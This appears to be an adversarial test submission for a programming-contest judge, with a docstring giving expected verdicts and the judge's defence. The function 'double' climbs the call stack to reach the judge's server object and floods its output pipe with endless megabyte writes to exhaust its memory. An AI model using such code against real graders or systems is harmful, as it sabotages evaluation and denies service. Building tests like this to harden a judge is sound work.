"""
verdict = ["OLE", "PE", "TLE"]
points_at_most = 4
wall_s = 20
exploits = "Floods the pipe of answers without a frame, to fill the judge's memory."
stops = "The judge reads on and throws away what is beyond the cap."
"""

import os
import sys


def double(x):
    frame = sys._getframe()
    while "server" not in frame.f_locals:
        frame = frame.f_back
    while True:
        os.write(frame.f_locals["server"].pipe.data_out, b"\0\x10\0\0" + b"x" * 1_000_000)
